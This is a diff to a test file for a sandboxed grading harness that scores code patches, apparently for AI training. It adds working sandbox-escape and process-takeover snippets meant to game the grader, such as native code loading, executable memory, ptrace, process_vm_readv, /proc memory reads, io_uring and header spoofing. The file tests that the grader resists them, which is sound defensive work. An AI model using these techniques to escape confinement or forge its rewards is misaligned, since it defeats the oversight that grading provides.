@@ -27,7 +27,14 @@ Add a class of attack here when you find one: the test is the claim.
   ``code.replace``, a module written during the run and imported, a test file through a
   directory descriptor and through a hard link. Each runs with the screen off (the run's own
   defences) and on (the screen, which also catches a rigged ``__eq__``); a setup command
-  that writes a ``conftest.py`` is undone before the tests start.
+  that writes a ``conftest.py`` is undone before the tests start. Round four
+  (``KERNEL_ATTACKS``, ours, each shown to work where nothing stops it): native code written
+  at test time anywhere writable and loaded, loaded from a memory file, machine code in
+  anonymous memory, memory made executable, a namespace of its own, its own memory by
+  ``/dev/fd/../mem`` and by a ``dir_fd``, a child that reads the test process's memory
+  (``process_vm_readv``, ``/proc/PPID/mem``), traces it or takes its descriptors, io_uring;
+  native code shipped in the patch or built by the setup from a C source; the package
+  changed under ``x/``/``y/`` and quoted patch headers.
 - the graders' parts: the tests out of reach without the jail too; a jail that cannot run
   the program is an error (the job fails), never a zero.
 - ``math``: an answer whose evaluation never ends (a power tower, a huge factorial) earns 0
@@ -471,6 +478,174 @@ SWE_FILES = {
 }
 
 
+# Round four: attacks on the kernel's boundary (graders/confine.py), ours. Each is code put
+# at the top of the package under test; it sets _OWNED to whether what it tried worked
+# (with it, the candidate holds the test process: its memory, the key, the evidence pipe;
+# or runs native code of its own there, which no check inside the process sees). OWNED_FIX
+# stands for what owning the run buys: the task's function made right. Each works where
+# nothing stops it (test_the_kernel_attacks_work_where_nothing_stops_them).
+_CHILD = ("import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+          "ppid, addr, n = os.getppid(), int(sys.argv[1]), int(sys.argv[2])\n")
+KERNEL_ATTACKS = {
+    # Native code the candidate's Python writes at test time wherever it can write, loaded.
+    "native-code-written-at-test-time": (
+        "import base64 as _b, ctypes as _c, os as _o\n_OWNED = False\n"
+        "for _d in ('/tmp', '/dev/shm', '/run', '/workspace', "
+        "_o.path.dirname(_o.path.abspath(__file__))):\n"
+        "    try:\n        _p = _o.path.join(_d, '_forge.so')\n"
+        "        with open(_p, 'wb') as _f:\n            _f.write(_b.b64decode(FORGE_SO))\n"
+        "        _OWNED = _OWNED or _c.CDLL(_p).forge() == 42\n"
+        "    except Exception:\n        pass\n"),
+    # The same from a memory file, by its /proc/self/fd path.
+    "native-code-from-a-memfd": (
+        "import base64 as _b, ctypes as _c, os as _o\n_OWNED = False\ntry:\n"
+        "    _fd = _o.memfd_create('forge')\n    _o.write(_fd, _b.b64decode(FORGE_SO))\n"
+        "    _OWNED = _c.CDLL(f'/proc/self/fd/{_fd}').forge() == 42\n"
+        "except Exception:\n    pass\n"),
+    # Machine code in memory made executable (mov eax, 42; ret), called.
+    "machine-code-in-anonymous-memory": (
+        "import ctypes as _c, mmap as _m, platform as _p\n_OWNED = False\ntry:\n"
+        "    _mem = _m.mmap(-1, 4096, prot=_m.PROT_READ | _m.PROT_WRITE | _m.PROT_EXEC)\n"
+        "    _mem.write(b'\\xb8\\x2a\\x00\\x00\\x00\\xc3')\n"
+        "    _a = _c.addressof(_c.c_char.from_buffer(_mem))\n"
+        "    _OWNED = _p.machine() == 'x86_64' and _c.CFUNCTYPE(_c.c_int)(_a)() == 42\n"
+        "except Exception:\n    pass\n"),
+    # Write access to memory already mapped executable (the interpreter's own code).
+    "make-memory-executable": (
+        "import ctypes as _c, mmap as _m\n_OWNED = False\ntry:\n"
+        "    _l = _c.CDLL(None, use_errno=True)\n    _mem = _m.mmap(-1, 4096)\n"
+        "    _a = _c.addressof(_c.c_char.from_buffer(_mem))\n"
+        "    _OWNED = _l.mprotect(_c.c_void_p(_a), 4096, 7) == 0\n"
+        "except Exception:\n    pass\n"),
+    # A user and mount namespace of its own, where it could mount an executable tmpfs.
+    "a-namespace-of-its-own": (
+        "import ctypes as _c\n_OWNED = _c.CDLL(None).unshare(0x10000000 | 0x20000) == 0\n"),
+    # Its own memory, by the spellings a path check misses.
+    "own-memory-by-dev-fd": (
+        "import os as _o\n_OWNED = False\ntry:\n    _b = b'prorl-secret'\n"
+        "    with open('/dev/fd/../mem', 'rb', buffering=0) as _f:\n"
+        "        _f.seek(id(_b))\n        _OWNED = _f.read(64).find(b'prorl-secret') >= 0\n"
+        "except Exception:\n    pass\n"),
+    "own-memory-by-dir-fd": (
+        "import os as _o\n_OWNED = False\ntry:\n    _b = b'prorl-secret'\n"
+        "    _d = _o.open('/proc/self', _o.O_RDONLY | _o.O_DIRECTORY)\n"
+        "    _fd = _o.open('mem', _o.O_RDONLY, dir_fd=_d)\n"
+        "    _OWNED = _o.pread(_fd, 64, id(_b)).find(b'prorl-secret') >= 0\n"
+        "except Exception:\n    pass\n"),
+    # A child process reads the test process's memory: process_vm_readv, /proc/PID/mem,
+    # ptrace; or takes its descriptors (pidfd_getfd).
+    "child-reads-by-process-vm": (
+        "import os as _o, subprocess as _s, sys as _y\n_b = b'prorl-secret'\n_OWNED = False\n"
+        "try:\n    _OWNED = b'prorl-secret' in _s.run([_y.executable, '-c', " + repr(
+            _CHILD + "buf = ctypes.create_string_buffer(n)\n"
+            "local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), n)\n"
+            "remote = (ctypes.c_void_p * 2)(addr, n)\n"
+            "k = libc.process_vm_readv(ppid, local, 1, remote, 1, 0)\n"
+            "sys.stdout.buffer.write(buf.raw if k > 0 else b'')\n")
+        + ", str(id(_b)), '64'], capture_output=True, timeout=30).stdout\n"
+        "except Exception:\n    pass\n"),
+    "child-reads-proc-pid-mem": (
+        "import os as _o, subprocess as _s, sys as _y\n_b = b'prorl-secret'\n_OWNED = False\n"
+        "try:\n    _OWNED = b'prorl-secret' in _s.run([_y.executable, '-c', " + repr(
+            _CHILD + "fd = os.open(f'/proc/{ppid}/mem', os.O_RDONLY)\n"
+            "sys.stdout.buffer.write(os.pread(fd, n, addr))\n")
+        + ", str(id(_b)), '64'], capture_output=True, timeout=30).stdout\n"
+        "except Exception:\n    pass\n"),
+    "child-ptraces-the-test-process": (
+        "import subprocess as _s, sys as _y\n_OWNED = False\ntry:\n"
+        "    _OWNED = _s.run([_y.executable, '-c', " + repr(
+            _CHILD + "ok = libc.ptrace(0x4206, ppid, 0, 0) == 0\n"  # PTRACE_SEIZE
+            "print('attached' if ok else 'refused')\n"
+            "ok and libc.ptrace(17, ppid, 0, 0)\n")
+        + ", '0', '0'], capture_output=True, text=True, timeout=30).stdout.strip() "
+        "== 'attached'\nexcept Exception:\n    pass\n"),
+    "child-takes-a-descriptor": (
+        "import subprocess as _s, sys as _y\n_OWNED = False\ntry:\n"
+        "    _OWNED = _s.run([_y.executable, '-c', " + repr(
+            _CHILD + "pidfd = libc.syscall(434, ppid, 0)\n"
+            "print('taken' if pidfd >= 0 and libc.syscall(438, pidfd, 0, 0) >= 0 "
+            "else 'refused')\n")
+        + ", '0', '0'], capture_output=True, text=True, timeout=30).stdout.strip() "
+        "== 'taken'\nexcept Exception:\n    pass\n"),
+    # io_uring: system calls the seccomp filter would not see one by one.
+    "io-uring": (
+        "import ctypes as _c\n_OWNED = False\ntry:\n    _p = _c.create_string_buffer(120)\n"
+        "    _OWNED = _c.CDLL(None).syscall(425, 8, _p) >= 0\nexcept Exception:\n    pass\n"),
+}
+OWNED_FIX = "\nif _OWNED:\n    def mul(a, b):\n        return a * b\n"
+FORGE_C = "int forge(void) { return 42; }\n"  # the native code: any would do
+
+
+@pytest.fixture(scope="module")
+def forge_so(tmp_path_factory) -> bytes:
+    """FORGE_C built as a shared object (the system's C compiler: `make system`)."""
+    import subprocess
+
+    d = tmp_path_factory.mktemp("forge")
+    (d / "forge.c").write_text(FORGE_C)
+    subprocess.run(["gcc", "-shared", "-fPIC", "-nostdlib", "-O2", "-s",
+                    "-Wl,-z,max-page-size=4096", "-Wl,-z,noseparate-code",
+                    "-o", str(d / "forge.so"), str(d / "forge.c")],
+                   check=True, capture_output=True)
+    return (d / "forge.so").read_bytes()
+
+
+def _kernel_attack(code: str, so: bytes) -> str:
+    import base64
+
+    return f"FORGE_SO = {base64.b64encode(so).decode()!r}\n" + code
+
+
+def _binary_patch(files: dict[str, bytes]) -> str:
+    """A patch (git's binary format) adding ``files``."""
+    import subprocess
+
+    with tempfile.TemporaryDirectory() as d:
+        subprocess.run(["git", "init", "-q", d], check=True)
+        for path, data in files.items():
+            os.makedirs(os.path.dirname(os.path.join(d, path)) or d, exist_ok=True)
+            Path(d, path).write_bytes(data)
+        subprocess.run(["git", "add", "-A", "-N"], cwd=d, check=True)
+        return subprocess.run(["git", "diff", "--binary"], cwd=d, check=True,
+                              capture_output=True, text=True).stdout
+
+
+def _headers(patch: str, old: str, new: str) -> str:
+    """``patch`` with its a/ and b/ headers respelled (``git apply -p1`` reads them all)."""
+    out = []
+    for line in patch.splitlines(keepends=True):
+        if line.startswith("diff --git a/"):
+            path = line.split(" ")[2][2:]
+            line = f"diff --git {old.format(path)} {new.format(path)}\n"
+        elif line.startswith("--- a/"):
+            line = f"--- {old.format(line[6:].rstrip())}\n"
+        elif line.startswith("+++ b/"):
+            line = f"+++ {new.format(line[6:].rstrip())}\n"
+        out.append(line)
+    return "".join(out)
+
+
+def _kernel_patches(base, so: bytes) -> tuple[list[str], list[str]]:
+    """Round four's classes as patches: native code shipped (an object file, under any
+    name) or built by the instance's setup from a C source, the test module's package
+    changed under headers a regex misses, and KERNEL_ATTACKS."""
+    names = list(KERNEL_ATTACKS)
+    patches = [_patch(base, _kernel_attack(code, so), suffix=OWNED_FIX)
+               for code in KERNEL_ATTACKS.values()]
+    loads = ("import ctypes as _c, os as _o\n_OWNED = False\ntry:\n    _OWNED = _c.CDLL("
+             "_o.path.join(_o.path.dirname(_o.path.abspath(__file__)), '{}')).forge() == 42\n"
+             "except Exception:\n    pass\n")
+    shipped = _patch(base, loads.format("_forge"), suffix=OWNED_FIX)
+    names += ["native-code-shipped", "native-code-built-by-setup", "headers-x-y",
+              "headers-quoted"]
+    patches += [shipped + _binary_patch({"calc/_forge": so}),
+                _patch(base, loads.format("_forge.so"), suffix=OWNED_FIX,
+                       files={"calc/_forge.c": FORGE_C}),
+                _headers(_patch(base, FRAME_WALK), "x/{}", "y/{}"),
+                _headers(_patch(base, FRAME_WALK), '"a/{}"', '"b/{}"')]
+    return names, patches
+
+
 # Of SWE_FILES, those the test run itself must catch (the rest fail by themselves).
 CAUGHT_IN_THE_RUN = {"plugin-named-from-the-package", "rigged-eq-reads-its-argument"}
 
@@ -506,23 +681,30 @@ def _attack_patches(base):
     return names, patches
 
 
-def test_swe_candidates_that_reach_into_the_test_process_earn_nothing(farm):
+def test_swe_candidates_that_reach_into_the_test_process_earn_nothing(farm, forge_so):
     """The test run's own defences, the screen off: every attack earns 0, and those that
-    reach into the test process are caught doing it (``suspicious``)."""
+    reach into the test process are caught doing it (``suspicious``); native code is
+    refused with the reason (the repository builds none), and the kernel's boundary holds
+    against round four's attacks (KERNEL_ATTACKS)."""
     client, instances, repo = farm
     inst = {**instances[0], "test_timeout_s": 120, "screen": False}
     base = _git_tree(str(repo), inst["base_commit"])
     names, patches = _attack_patches(base)
+    kernel_names, kernel_patches = _kernel_patches(base, forge_so)
     honest = _patch(base, HONEST, fix=True)
-    jobs = _reference(client, "swe", [{**inst, "patch": p} for p in [*patches, honest]])
+    jobs = _reference(client, "swe", [{**inst, "patch": p}
+                                      for p in [*patches, *kernel_patches, honest]])
     *attacks, good = jobs
     assert _reward(good) == 1.0, good["result"]
     assert _graded(good)["suspicious"] is False and _graded(good)["jail"] == "bwrap"
-    for name, job in zip(names, attacks):
+    for name, job in zip([*names, *kernel_names], attacks):
         ev = _graded(job)
         assert _reward(job) == 0.0, (name, ev)
-        if SWE_ATTACKS.get(name, (None, False))[1] or name in CAUGHT_IN_THE_RUN:
+        if SWE_ATTACKS.get(name, (None, False))[1] or name in CAUGHT_IN_THE_RUN \
+                or name.startswith("headers-"):
             assert ev.get("suspicious") is True, (name, ev)
+        if name.startswith("native-code-shipped") or name == "native-code-built-by-setup":
+            assert "adds native code" in ev["verdict"], (name, ev)
     by_name = dict(zip(names, attacks))
     assert set(_graded(by_name["conftest"])["discarded"]) == {"conftest.py",
                                                                "tests/conftest.py"}
@@ -719,3 +901,20 @@ def test_no_verdict_is_a_failure_never_a_zero():
                    {**out, "stdout": 'N {"error": "the jail did not run the program"}\n'}):
         with pytest.raises(GradingError):
             required_verdict(broken, "N", "harness")
+
+
+def test_the_kernel_attacks_work_where_nothing_stops_them(forge_so, tmp_path):
+    """The control for KERNEL_ATTACKS: run unconfined (a plain child of this process, as
+    root), each one does what it tries (owns the process), so the 0 each earns in the farm
+    is the kernel's boundary holding, not an attack that does nothing."""
+    import subprocess
+
+    missed = {}
+    for name, code in KERNEL_ATTACKS.items():
+        src = (f"__file__ = {str(tmp_path / 'calc.py')!r}\n" + _kernel_attack(code, forge_so)
+               + "\nprint(_OWNED)\n")
+        out = subprocess.run([sys.executable, "-c", src], capture_output=True, text=True,
+                             timeout=60)
+        if out.stdout.strip() != "True":
+            missed[name] = (out.stdout, out.stderr[-500:])
+    assert not missed, missed
